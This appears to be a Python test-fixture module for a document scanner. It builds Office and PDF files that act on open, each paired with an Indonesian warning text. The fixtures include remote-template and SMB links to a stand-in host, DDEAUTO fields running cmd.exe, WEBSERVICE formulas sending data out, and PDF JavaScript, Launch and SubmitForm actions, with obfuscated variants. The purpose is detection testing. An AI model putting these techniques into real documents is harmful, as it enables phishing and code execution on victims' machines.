"""Files that act by themselves when somebody opens them, each with what people are told; the ordinary ones stand in
`ordinary_files.py`.
"""

from collections.abc import Callable
from functools import partial

from tests.files import SLIDES, WORD, drawn_pdf, office, stream_of

SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
OUTSIDE = 'TargetMode="External"'
Made = Callable[[], bytes]


def relations(kind: str, target: str, more: str = OUTSIDE, written: str = "") -> bytes:
    relation = written or f'<Relationship Id="rId9" Type="{KINDS}{kind}" Target="{target}" {more}/>'
    return f'<?xml version="1.0"?><Relationships xmlns="x">{relation}</Relationships>'.encode()


def word(**parts: bytes) -> Made:
    return partial(office, WORD, "word/document.xml", "", {f"word/{_name(name)}": text for name, text in parts.items()})


def sheet(**parts: bytes) -> Made:
    return partial(office, SHEET, "xl/workbook.xml", "", {f"xl/{_name(name)}": text for name, text in parts.items()})


def slides(**parts: bytes) -> Made:
    return partial(office, SLIDES, "ppt/presentation.xml", "", {f"ppt/{_name(n)}": text for n, text in parts.items()})


def _name(name: str) -> str:
    """A part by a word: `rels` are the main part's relations, two underlines a folder."""
    if name == "rels":
        return "_rels/main.xml.rels"
    folder, _, part = name.rpartition("__")
    return f"{folder}/{part}.xml" if folder else f"{part}.xml"


def word_with(kind: str, target: str, more: str = OUTSIDE) -> Made:
    return word(rels=relations(kind, target, more))


def run(code: str) -> str:
    return f"<w:r><w:instrText>{code}</w:instrText></w:r>"


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def field(*runs: str) -> Made:
    """A field whose code is cut into runs."""
    return body(mark("begin") + "".join(map(run, runs)) + mark("separate") + mark("end"))


def body(content: str) -> Made:
    return word(footer1=f"<w:ftr {W}><w:p>{content}</w:p></w:ftr>".encode())


def formula(text: str) -> Made:
    return sheet(worksheets__sheet1=f"<worksheet {S}><c><f>{text}</f><v>1</v></c></worksheet>".encode())


def connection(words: str) -> Made:
    return sheet(connections=f'<connections {S}><connection id="1">{words}</connection></connections>'.encode())


def connected(about: str, words: str = "") -> Made:
    text = f'<connections {S}><connection id="1" refreshOnLoad="1" {about}>{words}</connection></connections>'
    return sheet(connections=text.encode())


def on_sheet(content: str) -> Made:
    return sheet(worksheets__sheet1=f"<worksheet {S}>{content}</worksheet>".encode())


def menu(about: str, content: str = "") -> Made:
    text = f'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" {about}>{content}</customUI>'
    return partial(office, extra={"customUI/customUI.xml": text.encode()})


def drawn(about: str, element: str = "imagedata") -> Made:
    return body(f'<w:pict xmlns:v="v" xmlns:o="o" xmlns:r="r"><v:shape><v:{element} {about}/></v:shape></w:pict>')


def action(words: str) -> Made:
    return slides(slides__slide1=f'<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick {words}/></p:sld>'.encode())


def following(steps: int, last: str) -> str:
    """So many harmless actions, then this one."""
    return "<< /S /GoTo /D (a) /Next " * steps + last + " >>" * steps


def form_of(text: str, encoding: str = "utf-8") -> Made:
    return pdf_with("/AcroForm << /XFA 5 0 R >>", "", stream_of(text.encode(encoding)))


def pdf_with(root: str = "", page: str = "", *more: bytes) -> Made:
    return partial(drawn_pdf, "Keputusan kepala dinas", root=root, page=page, more=more)


def packed(action: bytes, note: bytes = b"<< >>") -> bytes:
    """A PDF whose catalog and action lie in a pack of objects, as newer programs write them; `note` on its page."""
    inner = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>", action]
    heads = b"1 0 6 %d " % (len(inner[0]) + 1)
    pack = heads + b" ".join(inner)
    about = b"<< /Type /ObjStm /N 2 /First %d /Length 1 >>" % len(heads)
    content = b"%PDF-1.7\n"
    places: dict[int, int] = {}
    objects = {
        2: b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Annots [7 0 R] >>",
        4: stream_of(pack, about),
        7: note,
    }
    for number, thing in objects.items():
        places[number] = len(content)
        content += b"%d 0 obj\n%s\nendobj\n" % (number, thing)
    places[5] = len(content)
    rows = [(0, 0, 255), (2, 4, 0), *((1, places[n], 0) for n in (2, 3, 4, 5)), (2, 4, 1), (1, places[7], 0)]
    table = b"".join(bytes([kind]) + place.to_bytes(4, "big") + bytes([more]) for kind, place, more in rows)
    about = b"<< /Type /XRef /Size 8 /W [1 4 1] /Root 1 0 R /Length 1 >>"
    return content + b"5 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream_of(table, about), places[5])


def without_table(made: Made) -> bytes:
    """A PDF whose table of objects nobody finds."""
    return made().replace(b"trailer", b"trailex")


JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
HIDDEN_JS = b"<< /S /#4aavaScript /#4aS (a) >>"
TEMPLATE = "mengambil templat dari alamat lain"
PICTURE = "menampilkan gambar dari alamat lain"
LINKED = "menautkan isi berkas lain"
ELSEWHERE = "mengambil bagian dari alamat lain"
DATA = "mengambil data dari luar (koneksi data atau surat massal)"
DDE = "memuat perintah DDE yang dapat menjalankan program"
FIELD = "memuat kolom yang mengambil isi dari luar (misalnya INCLUDETEXT)"
FORMULA = "memuat rumus yang mengambil isi dari luar (misalnya WEBSERVICE)"
PRINTER = "memuat kolom PRINT yang mengirim perintah ke pencetak"
RUNS = "memuat tautan yang menjalankan program"
CHUNK = "menyisipkan dokumen lain yang tidak terbaca bersama isinya"
RIBBON = "memuat menu yang menjalankan makro dari alamat lain"
OBJECT = "menyimpan objek OLE (berkas lain) di dalamnya"
ADD_IN = "memuat add-in web"
PROGRAM = "menyimpan program di dalamnya"
SCRIPT = "memuat skrip JavaScript"
LAUNCH = "memuat perintah yang menjalankan program atau membuka berkas lain"
MEDIA = "memuat program atau media tertanam"
UNREADABLE = "rusak sehingga tidak dapat dipastikan bebas dari skrip"
CALLS = "menghubungi alamat lain begitu dibuka"

# name: how it is made, and what people are told that it does
ACTIVE: dict[str, tuple[Made, str]] = {
    "templat-jauh.docx": (word_with("attachedTemplate", "https://jahat.invalid/kop.dotm"), TEMPLATE),
    "templat-server.docx": (word_with("attachedTemplate", r"\\10.0.0.1\kop.dotm"), TEMPLATE),
    "templat-file.docx": (word_with("attachedTemplate", "file://10.0.0.1/kop.dotm"), TEMPLATE),
    "templat-miring.docx": (word_with("attachedTemplate", "file:////10.0.0.1/kop.dotm"), TEMPLATE),
    "templat-sandi.docx": (word_with("attachedTemplate", "&#104;ttp://jahat.invalid/a"), TEMPLATE),
    "templat-spasi.docx": (word_with("attachedTemplate", " ht&#9;tp://jahat.invalid/a"), TEMPLATE),
    "templat-tanpa-mode.docx": (word_with("attachedTemplate", "http://jahat.invalid/a", ""), TEMPLATE),
    "gambar-jauh.docx": (word_with("image", "http://jahat.invalid/a.png"), PICTURE),
    "gambar-smb.docx": (word_with("image", r"\\jahat.invalid\a.png"), PICTURE),
    "ole-jauh.docx": (word_with("oleObject", "mhtml:http://jahat.invalid/a.html!x-usc:http://jahat.invalid/a"), LINKED),
    "ole-lokal.docx": (word_with("oleObject", "file:///C:/data.xlsx!Sheet1"), LINKED),
    "bingkai.docx": (word_with("frame", "http://jahat.invalid/a.html"), ELSEWHERE),
    "subdokumen.docx": (word_with("subDocument", "http://jahat.invalid/a.docx"), LINKED),
    "surat-massal.docx": (word_with("mailMergeSource", "file:///C:/warga.xlsx"), DATA),
    "surat-massal-sql.docx": (
        word(settings=f'<w:settings {W}><w:connectString w:val="DSN=x"/></w:settings>'.encode()),
        DATA,
    ),
    "potongan-html.docx": (word_with("aFChunk", "afchunk.mht", ""), CHUNK),
    "add-in.docx": (word_with("webextension", "webextension1.xml", ""), ADD_IN),
    "program-sebagai-gambar.docx": (partial(office, extra={"word/media/image1.png": b"MZ\x90\x00"}), PROGRAM),
    "program-linux.docx": (partial(office, extra={"word/media/image1.emf": b"\x7fELF\x02"}), PROGRAM),
    "dde.docx": (field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'), DDE),
    "dde-terpotong.docx": (field("DD", "EAU", 'TO cmd "/k calc"'), DDE),
    "dde-komentar.docx": (body(mark("begin") + run("DDE<!-- -->AUTO cmd") + mark("end")), DDE),
    "dde-cdata.docx": (body(mark("begin") + run("<![CDATA[DDE]]> cmd a") + mark("end")), DDE),
    "dde-bersarang.docx": (
        body(mark("begin") + run("IF 1=1 ") + mark("begin") + run("dde cmd a") + mark("end") + mark("end")),
        DDE,
    ),
    "dde-tak-selesai.docx": (body(mark("begin") + run("DDEAUTO cmd a")), DDE),
    "dde-awalan.docx": (
        word(header1=b'<v:hdr xmlns:v="w"><v:fldSimple v:instr=" DDEAUTO cmd a"/></v:hdr>'),
        DDE,
    ),
    "tautan-berkas.docx": (field('LINK Excel.Sheet.12 "C:\\\\a.xlsx"'), LINKED),
    "sisip-teks.docx": (field('INCLUDETEXT "C:\\\\rahasia.txt"'), FIELD),
    "sisip-gambar.docx": (field('includepicture "http://jahat.invalid/x?a" \\d'), PICTURE),
    "dde-rapat.docx": (field('DDEAUTO"c:\\\\windows\\\\system32\\\\cmd.exe" "/k calc"'), DDE),
    "dde-garis.docx": (field("DDEAUTO\\* cmd a"), DDE),
    "sisip-teks-rapat.docx": (field('INCLUDETEXT"http://jahat.invalid/a"'), FIELD),
    "sisip-gambar-rapat.docx": (field('INCLUDEPICTURE"http://jahat.invalid/a.png"'), PICTURE),
    "sisip-gambar-kutip.docx": (field("INCLUDEPICTURE \u201chttp://jahat.invalid/a.png\u201d \\d"), PICTURE),
    "sisip-gambar-terbuka.docx": (field('INCLUDEPICTURE "http://jahat.invalid/a.png'), PICTURE),
    "dokumen-acuan.docx": (field('RD "http://jahat.invalid/a.docx"'), FIELD),
    "pencetak.docx": (field('PRINT 27"E"'), PRINTER),
    "basis-data.docx": (field('DATABASE \\c "DSN=x"'), DATA),
    "tautan-skrip.docx": (word_with("hyperlink", "javascript:alert(1)"), RUNS),
    "tautan-msdt.docx": (word_with("hyperlink", "ms-msdt:/id PCWDiagnostic"), RUNS),
    "tautan-tersandi.docx": (word_with("hyperlink", "file:///C:/Windows/System32/calc%2Eexe"), RUNS),
    "tautan-tersandi-dua-kali.docx": (word_with("hyperlink", "file:///C:/Windows/calc%252ee%78e"), RUNS),
    "tautan-skema-tersandi.docx": (word_with("hyperlink", "java%73cript:alert(1)"), RUNS),
    "gambar-tersandi.docx": (word_with("image", "http%3A//jahat.invalid/a.png"), PICTURE),
    "gambar-berbagi-tersandi.docx": (word_with("image", "%5C%5Cjahat.invalid%5Cs%5Ca.png"), PICTURE),
    "kolom-tersandi.docx": (field('HYPERLINK "file:///C:/Windows/calc%2Eexe"'), RUNS),
    "rumus-tautan-tersandi.xlsx": (formula('HYPERLINK("file:///C:/a%2Eexe","Buka")'), RUNS),
    "rtf-sisipan.docx": (
        partial(office, extra={"word/embeddings/surat.rtf": b"{\\rtf1 {\\object \\objdata d0}}"}),
        CHUNK,
    ),
    "rtf-tersamar.docx": (partial(office, extra={"word/embeddings/lampiran.dat": b" \r\n{\\rt {\\field}}"}), CHUNK),
    "tautan-program.docx": (word_with("hyperlink", "file:///C:/Windows/System32/calc.exe"), RUNS),
    "tautan-kolom.docx": (field('HYPERLINK "search-ms:query=x"'), RUNS),
    "tautan-com.docx": (word_with("hyperlink", "file:///C:/Windows/System32/format.com"), RUNS),
    "tautan-com-server.docx": (word_with("hyperlink", r"\\jahat.invalid\a.com"), RUNS),
    "tautan-com-folder.docx": (word_with("hyperlink", r"alat\a.com"), RUNS),
    "koneksi-odbc.xlsx": (connection('<dbPr connection="DSN=kota" command="SELECT 1"/>'), DATA),
    "kueri-daya.xlsx": (connection('<dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Location=a"/>'), DATA),
    "kueri-web.xlsx": (connection('<webPr url="http://jahat.invalid/"/>'), DATA),
    "dde.xlsx": (
        sheet(externalLinks__externalLink1=f'<externalLink {S}><ddeLink ddeService="cmd"/></externalLink>'.encode()),
        DDE,
    ),
    "dde-rumus.xlsx": (formula("cmd|'/C calc'!A0"), DDE),
    "dde-rumus-lain.xlsx": (formula("1+MSEXCEL|'..\\cmd.exe /c calc'!''"), DDE),
    "tautan-ole.xlsx": (
        sheet(externalLinks__externalLink1=f'<externalLink {S}><oleLink progId="x"/></externalLink>'.encode()),
        LINKED,
    ),
    "buku-jauh.xlsx": (
        partial(
            office,
            SHEET,
            "xl/workbook.xml",
            extra={"xl/externalLinks/_rels/a.xml.rels": relations("externalLinkPath", "https://jahat.invalid/b.xlsx")},
        ),
        DATA,
    ),
    "rumus-web.xlsx": (formula('_xlfn.WEBSERVICE("http://jahat.invalid/?"&amp;A1)'), FORMULA),
    "rumus-sandi.xlsx": (formula("&#87;EBSERVICE(A1)"), FORMULA),
    "rumus-rtd.xlsx": (formula('SUM(1,RTD("x",,"y"))'), FORMULA),
    "koneksi-teks.xlsx": (connected('type="6"', r'<textPr sourceFile="\\jahat.invalid\s\a.txt"/>'), DATA),
    "koneksi-odc.xlsx": (connected('type="1" odcFile="http://jahat.invalid/a.odc"'), DATA),
    "koneksi-berkas.xlsx": (connected(r'type="5" sourceFile="\\jahat.invalid\s\a.mdb"'), DATA),
    **{
        f"rumus-{name}.xlsx": (on_sheet(f'<{name}>_xlfn.WEBSERVICE("http://jahat.invalid")</{name}>'), FORMULA)
        for name in ("formula", "formula1", "formula2", "calculatedColumnFormula", "totalsRowFormula")
    },
    "rumus-tautan.xlsx": (formula('IF(1,HYPERLINK( "\\\\jahat.invalid\\s\\a.exe","Buka"))'), RUNS),
    "nama-otomatis.xlsx": (
        sheet(names=f'<workbook {S}><definedName name="_xlnm.Auto_Open">A1</definedName></workbook>'.encode()),
        FORMULA,
    ),
    "menu-jauh.docx": (menu('onLoad="https://jahat.invalid/a.dotm!mulai"'), RIBBON),
    "menu-tombol.docx": (menu("", r'<button id="a" onAction="\\jahat.invalid\a.dotm!mulai"/>'), RIBBON),
    "menu-pembuka.docx": (
        body('<x:customUI xmlns:x="x"/>' + mark("begin") + run("DDEAUTO cmd a") + mark("end")),
        DDE,
    ),
    "vml-src.docx": (drawn('src="http://jahat.invalid/a.png"'), PICTURE),
    "vml-dua-nama.docx": (drawn('src="http://jahat.invalid/a.png" o:src="a.png"'), PICTURE),
    "vml-isian.docx": (drawn(r'o:href="\\jahat.invalid\a.png"', "fill"), PICTURE),
    "vml-rusak.xlsx": (
        partial(
            office,
            SHEET,
            "xl/workbook.xml",
            extra={"xl/drawings/a.vml": b'<xml><a></b><v:imagedata src="\\\\jahat.invalid\\a.png"/></xml>'},
        ),
        PICTURE,
    ),
    "objek-dalam.docx": (word_with("oleObject", "media/a.dat", ""), OBJECT),
    "sisipan-samaran.docx": (
        partial(office, extra={"word/media/a.dat": formula("WEBSERVICE(A1)")()}),
        f"menyisipkan a.dat, yang {FORMULA}",
    ),
    "paparan-program.pptx": (action('action="ppaction://program"'), RUNS),
    "paparan-makro.pptx": (action('action="ppaction://macro?name=a"'), RUNS),
    "paparan-gambar.pptx": (slides(rels=relations("image", "https://jahat.invalid/a.png")), PICTURE),
    "paparan-video-server.pptx": (slides(rels=relations("video", r"\\jahat.invalid\a.mp4")), ELSEWHERE),
    "utf16.docx": (
        partial(
            office, extra={"word/footer1.xml": f'<w:ftr {W}><w:fldSimple w:instr="DDE a b"/></w:ftr>'.encode("utf-16")}
        ),
        DDE,
    ),
    "nama-lain.docx": (
        partial(office, extra={"word/bagian.foo": f'<w:ftr {W}><w:fldSimple w:instr="DDE a b"/></w:ftr>'.encode()}),
        DDE,
    ),
    "sisipan.docx": (
        partial(office, extra={"word/embeddings/Sheet1.xlsx": formula("WEBSERVICE(A1)")()}),
        f"menyisipkan Sheet1.xlsx, yang {FORMULA}",
    ),
    "skrip.pdf": (pdf_with("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), SCRIPT),
    "skrip-bernama.pdf": (pdf_with("/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", "", JS), SCRIPT),
    "skrip-halaman.pdf": (pdf_with("", "/AA << /O 5 0 R >>", JS), SCRIPT),
    "skrip-catatan.pdf": (
        pdf_with("", "/Annots [<< /Subtype /Link /A << /S /JavaScript /JS 5 0 R >> >>]", stream_of(b"a")),
        SCRIPT,
    ),
    "skrip-tersandi.pdf": (pdf_with("/OpenAction << /S /#4aava#53cript /#4a#53 (a) >>"), SCRIPT),
    "skrip-formulir.pdf": (
        pdf_with("/AcroForm << /Fields [<< /FT /Tx /AA << /K << /S /JavaScript /JS (a) >> >> >>] >>"),
        SCRIPT,
    ),
    "skrip-xfa.pdf": (pdf_with("/AcroForm << /XFA 5 0 R >>", "", stream_of(b"<xdp><script>a</script></xdp>")), SCRIPT),
    "skrip-xfa-awalan.pdf": (form_of("<x:xdp xmlns:x='x'><t:script>a</t:script></x:xdp>"), SCRIPT),
    "skrip-xfa-utf16.pdf": (
        form_of("<?xml version='1.0' encoding='UTF-16'?><xdp><script>a</script></xdp>", "utf-16"),
        SCRIPT,
    ),
    "skrip-xfa-bagian.pdf": (
        pdf_with(
            "/AcroForm << /XFA [(a) 5 0 R (b) 6 0 R] >>", "", stream_of(b"<xdp><t:scr"), stream_of(b"ipt/></xdp>")
        ),
        SCRIPT,
    ),
    "xfa-rusak.pdf": (form_of("<xdp><field>"), UNREADABLE),
    "xfa-entitas.pdf": (form_of("<!DOCTYPE a [<!ENTITY b '<script/>'>]><a/>"), UNREADABLE),
    "skrip-kemudian.pdf": (pdf_with(f"/OpenAction {following(12, JS.decode())}"), SCRIPT),
    "skrip-dalam-sekali.pdf": (pdf_with(f"/OpenAction {following(80, JS.decode())}"), UNREADABLE),
    "panggil-kemudian.pdf": (
        pdf_with(f"/OpenAction {following(1, '<< /S /URI /URI (http://jahat.invalid/) >>')}"),
        CALLS,
    ),
    "server-kemudian.pdf": (
        pdf_with("", "/AA << /O << /S /GoTo /Next [5 0 R] >> >>", b"<< /S /GoToR /F (\\\\\\\\jahat.invalid\\\\a) >>"),
        CALLS,
    ),
    "skrip-terkemas.pdf": (partial(packed, JS), SCRIPT),
    "skrip-di-balik-rusak.pdf": (partial(packed, HIDDEN_JS, b"}}}} )) >>"), SCRIPT),
    "skrip-di-ekor.pdf": (
        lambda: drawn_pdf("Keputusan").replace(
            b"/Root 1 0 R", b"/Root << /Type /Catalog /Pages 2 0 R /OpenAction " + HIDDEN_JS + b" >>"
        ),
        SCRIPT,
    ),
    "rusak-bernama.pdf": (partial(without_table, pdf_with("/OpenAction 5 0 R", "", HIDDEN_JS)), UNREADABLE),
    "tindakan-rusak.pdf": (pdf_with("/OpenAction 5 0 R", "", b"}}}} )) " + HIDDEN_JS), UNREADABLE),
    "kemasan-rusak.pdf": (
        lambda: packed(HIDDEN_JS).replace(b"/Type /ObjStm", b"/Type /ObjStm /Filter /FlateDecode"),
        UNREADABLE,
    ),
    "luncur.pdf": (pdf_with("/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>"), LAUNCH),
    "luncur-tautan.pdf": (pdf_with("", "/Annots [<< /Subtype /Link /A << /S /Launch /F (calc.exe) >> >>]"), LAUNCH),
    "luncur-terkemas.pdf": (partial(packed, b"<< /S /Launch /F (a.exe) >>"), LAUNCH),
    "media.pdf": (pdf_with("", "/Annots [<< /Subtype /RichMedia /RichMediaContent << >> >>]"), MEDIA),
    "panggil.pdf": (pdf_with("/OpenAction << /S /URI /URI (http://jahat.invalid/) >>"), CALLS),
    "kirim-sendiri.pdf": (pdf_with("", "/AA << /O << /S /SubmitForm /F (http://jahat.invalid/) >> >>"), CALLS),
    "buka-server.pdf": (pdf_with("/OpenAction << /S /GoToR /F (\\\\\\\\jahat.invalid\\\\a) >>"), CALLS),
}
